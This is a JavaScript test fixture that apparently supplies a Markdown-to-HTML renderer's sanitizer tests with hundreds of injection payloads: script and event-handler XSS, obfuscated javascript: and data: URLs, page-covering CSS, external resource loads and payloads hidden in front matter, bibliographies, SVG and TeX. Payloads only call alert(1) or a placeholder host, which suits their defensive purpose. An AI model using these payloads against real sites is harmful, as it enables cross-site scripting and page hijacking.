// SPDX-License-Identifier: MIT
//
// Documents by strangers who want more than a page: to load something, to run a script, to leave their place on the page. Each attack is
// [what it tries, the document, other files]. HOST is any other machine; a script that runs calls alert(). What an attack wants to put over
// the page has the text COVER.
"use strict";

const HOST = "http://elsewhere.test", RUN = "alert(1)";
const attacks = [];
const add = (name, text, files = {}) => attacks.push({ name, text, files });
const front = (lines, text = "Text.") => `---\n${lines}\n---\n\n${text}\n`;

// ---- elements of HTML that load, run or ask, as a block and within a sentence

const elements = {
    "a script": `<script>${RUN}</script>`,
    "a script of another host": `<script src=${HOST}/a.js></script>`,
    "a script as a module": `<script type=module>import("${HOST}/m.js")</script>`,
    "a script with a stray slash": `<script/x>${RUN}</script/y>`,
    "a script that is not closed": `<script>${RUN}//`,
    "a script within a broken script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    "a frame": `<iframe src=${HOST}/f></iframe>`,
    "a frame with a document in it": `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    "a frame with a script address": `<iframe src="javascript:parent.${RUN}"></iframe>`,
    "an object": `<object data=${HOST}/o type=text/html></object>`,
    "an object with data": `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
    "an embedded file": `<embed src=${HOST}/e.svg type=image/svg+xml>`,
    "an applet": `<applet code=A archive=${HOST}/a.jar></applet>`,
    "frames in a set": `<frameset onload=${RUN}><frame src=${HOST}/f></frameset>`,
    "a portal": `<portal src=${HOST}/p></portal>`,
    "a base address": `<base href=${HOST}/><img src=b.png>`,
    "a sheet": `<link rel=stylesheet href=${HOST}/s.css>`,
    "a hint to load": `<link rel=preload as=image href=${HOST}/p.png><link rel=prefetch href=${HOST}/q>`,
    "a hint to connect": `<link rel=dns-prefetch href=${HOST}><link rel=preconnect href=${HOST}>`,
    "an import of HTML": `<link rel=import href=${HOST}/i.html>`,
    "a manifest and an icon": `<link rel=manifest href=${HOST}/m><link rel=icon href=${HOST}/i.ico>`,
    "a refresh": `<meta http-equiv=refresh content="0;url=${HOST}/r">`,
    "a refresh to a script": `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
    "a cookie": `<meta http-equiv=Set-Cookie content="a=b">`,
    "an image": `<img src=${HOST}/i.png>`,
    "an image with a fallback": `<img src=x:x onerror=${RUN}>`,
    "an image without a slash": `<img/src="x:x"/onerror="${RUN}">`,
    "an image with a set": `<img srcset="${HOST}/1.png 1x, ${HOST}/2.png 2x">`,
    "an image by its old name": `<image src=${HOST}/i.png onerror=${RUN}>`,
    "an image of low quality": `<img lowsrc=${HOST}/l.png dynsrc=${HOST}/d.avi>`,
    "a picture": `<picture><source srcset=${HOST}/p.webp><img src=x.png></picture>`,
    "a film": `<video src=${HOST}/v.mp4 poster=${HOST}/p.png autoplay onloadstart=${RUN}></video>`,
    "a film with sources": `<video autoplay><source src=${HOST}/v.webm onerror=${RUN}><track src=${HOST}/t.vtt default></video>`,
    "a sound": `<audio src=${HOST}/a.ogg autoplay oncanplay=${RUN}></audio>`,
    "a sound of the page": `<bgsound src=${HOST}/b.mid>`,
    "a form that sends itself": `<form action=${HOST}/f id=f><input name=a></form><button form=f formaction="javascript:${RUN}">b</button>`,
    "a field that takes the focus": `<input autofocus onfocus=${RUN}>`,
    "a button that is an image": `<input type=image src=${HOST}/b.png>`,
    "a list of choices": `<select autofocus onfocus=${RUN}><option>a</select>`,
    "an area for text": `<textarea autofocus onfocus=${RUN}>a</textarea>`,
    "a key": `<keygen autofocus onfocus=${RUN}>`,
    "an old search field": `<isindex action="javascript:${RUN}" type=image src=${HOST}/x>`,
    "a moving text": `<marquee onstart=${RUN} behavior=alternate>moves</marquee>`,
    "a window": `<dialog open onclose=${RUN} style="position:fixed;inset:0;background:red">COVER</dialog>`,
    "details that open": `<details open ontoggle=${RUN}><summary>a</summary>b</details>`,
    "a page body": `<body onload=${RUN} background=${HOST}/b.png>`,
    "a body with a hash": `<body onhashchange=${RUN} onpageshow=${RUN}>`,
    "a table with a picture": `<table background=${HOST}/t.png><tr><td background=${HOST}/d.png>a</td></tr></table>`,
    "a drawing": `<svg onload=${RUN}><script>${RUN}</script></svg>`,
    "a drawing with a picture": `<svg><image href=${HOST}/i.png /><use href=${HOST}/u.svg#a /></svg>`,
    "a drawing with a filter": `<svg><filter id=f><feImage href=${HOST}/f.png /></filter><rect filter=url(${HOST}/g.svg#x) /></svg>`,
    "a drawing that changes a link": `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>a</text></a></svg>`,
    "a drawing that sets a handler": `<svg><set attributeName=onmouseover to=${RUN}></set><circle r=400 /></svg>`,
    "HTML in a drawing": `<svg><foreignObject><iframe src=${HOST}/f></iframe></foreignObject></svg>`,
    "a style in a drawing": `<svg><style>@import "${HOST}/s.css";</style></svg>`,
    "a formula with a link": `<math href="javascript:${RUN}"><mtext>a</mtext></math>`,
    "a formula with HTML": `<math><annotation-xml encoding=text/html><img src=x:x onerror=${RUN}></annotation-xml></math>`,
    "a formula that turns into HTML": `<math><mtext><table><mglyph><style><img src=x:x onerror=${RUN}></style></mglyph></table></mtext></math>`,
    "a custom element": `<my-box onclick=${RUN} is=x-y><img src=x:x onerror=${RUN}></my-box>`,
    "a shadow": `<div><template shadowrootmode=open><img src=x:x onerror=${RUN}></template></div>`,
    "a slot": `<slot onslotchange=${RUN}><b>a</b></slot>`,
    "a link that pings": `<a href=#a ping=${HOST}/ping>a</a>`,
    "a link that opens a frame": `<a href="javascript:${RUN}" target=_self>a</a>`,
    "a map": `<map name=m><area href="javascript:${RUN}" shape=default></map><img usemap=#m src=x.png>`,
    "a button with a popover": `<button popovertarget=p>a</button><div id=p popover onbeforetoggle=${RUN}>COVER</div>`,
    "a style sheet": `<style>@import url(${HOST}/s.css); body { background: url(${HOST}/b.png) }</style>`,
    "a style sheet over the page": `<style>p { position: fixed; inset: 0; background: red }</style><p>COVER</p>`,
    "an XML instruction": `<?xml-stylesheet href="javascript:${RUN}"?><?import namespace=t implementation=#default?>`,
    "a type of document": `<!DOCTYPE html [<!ENTITY x SYSTEM "${HOST}/e">]>&x;`,
};
for (const [name, html] of Object.entries(elements)) {
    add(name, `${html}\n\nA sentence with ${html} in it.\n`);
}

// ---- text that is read in another way than it was written

for (const name of ["xmp", "noembed", "noframes", "plaintext", "noscript", "title", "textarea", "listing", "style", "template", "select"]) {
    add(`raw text in ${name}`, `<${name}><img src=${HOST}/${name}.png onerror=${RUN}></${name}> end\n\nIn <${name}><img src=x:x onerror=${RUN}></${name}> a text.\n`);
}
add("an attribute that closes a raw text", `<p title="</xmp><img src=x:x onerror=${RUN}>"><xmp>a\n`);
add("an attribute that closes a style", `<b title="</style><img src=x:x onerror=${RUN}>">a</b>\n`);
add("a comment that ends early", `<!--><img src=x:x onerror=${RUN}>-->\n\na <!--><img src=x:x onerror=${RUN}> b -->\n`);
add("a comment that ends strangely", `<!-- a --!><img src=x:x onerror=${RUN}> -->\n`);
add("character data", `<![CDATA[<img src=x:x onerror=${RUN}>]]>\n`);
add("a declaration", `<!x "><img src=x:x onerror=${RUN}>">\n`);
add("a processing instruction", `<?x ><img src=x:x onerror=${RUN}> ?>\n`);
add("a table that moves its content", `<table><a href="javascript:${RUN}">a<tr><td><img src=x:x onerror=${RUN}></td></tr></table>\n`);
add("quotation marks in an attribute", `<b title='"onmouseover="${RUN}'>a</b> <b title=\`onmouseover=${RUN}\`>b</b>\n`);
add("a control character in a name", `<img src=x:x on\u0000error=${RUN}> <img\u000bsrc=x:x\u000conerror=${RUN}>\n`);
add("code with HTML", "`<img src=x:x onerror=alert(1)>` and\n\n    <script>alert(1)</script>\n\n```html\n</code></pre><script>alert(1)</script>\n```\n");
add("a language of code that closes its class", "```\"><img/src=x:x/onerror=alert(1)>\nx\n```\n");
add("a title with marks", `[a](b "\\"><img src=x:x onerror=${RUN}>")\n\n![a\\"onerror=${RUN}](x.png '"onload="${RUN}')\n`);
add("an identifier with marks", `# Title {#"onclick="${RUN}" .a"b}\n\n[a](#"onclick="${RUN})\n`);
add("a footnote with HTML", `A[^"><script>${RUN}</script>]\n\n[^"><script>${RUN}</script>]: <script>${RUN}</script>\n`);
add("entities that become HTML", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x:x onerror=alert(1)&#62; &#x3c;svg onload=alert(1)>\n");
add("entities in an attribute", "<a href=\"&#106;avascript:alert(1)\" title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">a</a>\n");
add("raw blocks of HTML", "```{=html}\n<script>alert(1)</script>\n```\n\n`<img src=x:x onerror=alert(1)>`{=html5}\n");
add("raw TeX", "\\begin{rawhtml}<script>alert(1)</script>\\end{rawhtml}\n\n`\\write18{x}`{=latex}\n");

// ---- addresses

const addresses = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java&#9;script:alert(1)", "java&#10;script:alert(1)", "&#1;javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "java%0ascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "feed:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "view-source:javascript:alert(1)", "blob:null/1", "filesystem:http://elsewhere.test/a", "file:///etc/passwd", "ms-word:ofe|u|http://elsewhere.test/a", "\\\\elsewhere.test\\a", "//elsewhere.test/a"];
addresses.forEach((url, i) => add(`address ${i + 1}: ${JSON.stringify(url)}`,
    `[a](<${url}>) ![b](<${url}>) <${url}> [c] <a href="${url}">d</a> <img src="${url}">\n\n[c]: <${url}>\n`));

// ---- styles

const styles = ["position:fixed;inset:0;background:red", "position:absolute;top:0;left:0;width:100vw;height:100vh;background:red", "position:sticky;top:0;z-index:9",
    "margin-left:-500px;background:red", "margin:-400px;background:red", "margin-top:calc(0px - 300px);background:red", "text-indent:-600px", "transform:scale(40)", "translate:-500px 0",
    "box-shadow:0 0 0 9999px red", "text-shadow:-600px -100px red", "outline:900px solid red", "width:9999px;background:red", "height:1px;overflow:visible;font-size:900px", "float:left;margin-left:-50vw",
    "background:url(http://elsewhere.test/b.png)", "background:URL('http://elsewhere.test/b.png')", "background:u\\72l(http://elsewhere.test/b.png)", "background:image-set('http://elsewhere.test/a.png' 1x)",
    "list-style:url(http://elsewhere.test/l.png)", "content:url(http://elsewhere.test/c.png)", "cursor:url(http://elsewhere.test/c.cur),auto", "border-image:url(http://elsewhere.test/b.png) 1",
    "mask:url(http://elsewhere.test/m.svg)", "filter:url(http://elsewhere.test/f.svg#a)", "behavior:url(http://elsewhere.test/b.htc)", "-moz-binding:url(http://elsewhere.test/b.xml#a)",
    "width:expression(alert(1))", "@import 'http://elsewhere.test/s.css'", "color:red}body{background:url(http://elsewhere.test/b.png)", "--x:url(http://elsewhere.test/x.png);background:var(--x)",
    "background:/**/url(http://elsewhere.test/b.png)", "font:9px/url(http://elsewhere.test/f.woff)", "animation:x 1s", "anchor-name:--a;position-anchor:--a;position:fixed", "all:initial;position:fixed;inset:0"];
for (const css of styles) {
    add(`style ${css}`, `<div style="${css}">COVER</div>\n\n::: {style="${css}"}\nCOVER\n:::\n\n[COVER]{style="${css}"} <span style="${css}">COVER</span>\n`);
}
add("a colour with more in it", `<table bgcolor="red;position:fixed;inset:0"><tr><td>COVER</td></tr></table>\n\n<font color="red;position:fixed;top:0;left:0">COVER</font>\n`);

// ---- attributes

const attributes = [`onclick=${RUN}`, `ONMOUSEOVER=${RUN}`, `onfocus=${RUN} tabindex=0 autofocus`, `onanimationstart=${RUN} style="animation:x"`, `hx-get=${HOST}/h hx-trigger=load`, `data-hx-get=${HOST}/h data-hx-trigger=load`,
    `x-data="{}" x-init="${RUN}"`, `v-html="${RUN}" v-on:click="${RUN}"`, `ng-init="${RUN}" data-ng-init="${RUN}"`, "data-bs-toggle=modal data-bs-target=body", `data-remote=true data-method=delete data-url=${HOST}/r`,
    `data-bind="click: alert" data-controller=a data-action="click->a#b"`, `srcdoc="<script>${RUN}</script>" src=${HOST}/s`, `formaction="javascript:${RUN}" href="javascript:${RUN}"`, `ping=${HOST}/p`,
    `popover=auto contenteditable=true draggable=true ondragstart=${RUN}`, `is=x-y slot=a part=b nonce=c`, `itemid=${HOST}/i itemtype=${HOST}/t`, `background=${HOST}/b.png`, `xlink:href=${HOST}/x xmlns:xlink=${HOST}`];
for (const attribute of attributes) {
    const first = attribute.split(" ")[0];
    add(`attribute ${first}`, `<p ${attribute}>a</p>\n\n<b ${attribute}>b</b>\n\n[c]{${attribute}} [d](#e){${attribute}}\n\n# f {${attribute}}\n\n::: {${attribute}}\ng\n:::\n\n![h](x.png){${attribute}}\n`,
        { "x.png": Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==", "base64") });
}

// ---- front matter, databases, sheets, drawings

const script = `<script>${RUN}</script>`, image = `<img src=x:x onerror=${RUN}>`;
for (const key of ["title", "subtitle", "author", "date", "abstract", "description", "keywords", "lang", "dir", "pagetitle", "title-prefix", "thanks", "toc-title", "favicon", "image", "maxwidth", "mainfont", "fontcolor",
    "highlight-style", "document-css", "math", "header-includes", "include-before", "include-after", "include-in-header"]) {
    add(`front matter: ${key}`, front(`${key}: '"></title></style>${script}${image}}body{background:url(${HOST}/b.png)}'`));
}
add("an author with addresses", front(`author:\n- name: A\n  url: "javascript:${RUN}"\n  photo: ${HOST}/p.png\n  email: 'a"onclick="${RUN}'\n  orcid: '"><script>${RUN}</script>'`));
add("a sheet of another host", front(`css: [${HOST}/s.css, "//elsewhere.test/t.css"]`));
add("a sheet that loads", front("css: s.css"), { "s.css": `@import url(${HOST}/i.css); @import "//elsewhere.test/j.css"; @font-face { font-family: x; src: url(${HOST}/f.woff) } body { background: url(${HOST}/b.png), image-set("${HOST}/c.png" 1x); font-family: x }` });
add("a sheet that hides its addresses", front("css: s.css"), { "s.css": `@\\69mport "${HOST}/i.css"; p { background: \\75\\72\\6c(${HOST}/b.png); list-style: u/**/rl(${HOST}/l.png) } p::before { content: url("${HOST}/c.png" }` });
add("a sheet that ends its element", front("css: s.css"), { "s.css": `p { color: red } </style>${script}<style>` });
add("works with HTML", front("bibliography: r.bib", "[@a]\n\n::: {.publications show=\"bibtex abstract cite\"}\n:::"), { "r.bib": `@book{a, title={${image}}, author={${script}, "><b>}, publisher={</script>${script}}, year=2020, url={javascript:${RUN}}, doi={"><script>${RUN}</script>}, abstract={${script}}, note={\\href{javascript:${RUN}}{a}}, howpublished={<iframe src=${HOST}/f>}}\n` });
add("works in JSON", front("bibliography: r.json", "[@a]\n\n::: {.publications}\n:::"), { "r.json": JSON.stringify([{ id: "a", type: "book", title: `<span style="position:fixed">${image}</span>`, URL: `javascript:${RUN}`, author: [{ family: script, given: "A" }], issued: { "date-parts": [[2020]] } }]) });
add("a drawing with a script", "![a](i.svg)\n", { "i.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}">${script}<image href="${HOST}/i.png" width="9" height="9"/></svg>` });
add("a drawing with HTML in it", "![a](i.svg)\n", { "i.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${HOST}/i.png" onerror="${RUN}"/></foreignObject></svg>` });
add("a page as a picture", "![a](i.png)\n", { "i.png": script });

// ---- TeX and shortcodes

add("links of TeX", `\\href{javascript:${RUN}}{a} \\url{javascript:${RUN}} \\includegraphics{${HOST}/i.png}\n`);
add("links in a formula", `$\\href{javascript:${RUN}}{x} \\class{a" onclick="${RUN}}{y} \\style{position:fixed;inset:0}{z}$\n`);
add("HTML in a formula", `$\\text{${image}} \\unicode{60} \\htmlData{a=b}{c} \\includegraphics{${HOST}/i.png}$\n\n$$</math>${script}$$\n`);
add("shortcodes", `{{< video ${HOST}/v.mp4 >}} {{< include ${HOST}/a.md >}} {{< pagebreak >}} {{< meta "<script>${RUN}</script>" >}}\n`);
add("a film by an image", `![a](${HOST}/v.mp4) ![](${HOST}/a.ogg) ![[${HOST}/w.png]]\n`);
add("a link with an image in it", `[![a](${HOST}/i.png)](javascript:${RUN})\n`);
add("a list of files", front(`bibliography: ${HOST}/r.bib\ncsl: ${HOST}/s.csl\nmetadata-files: [${HOST}/m.yml]`, "[@a]"));

module.exports = attacks;
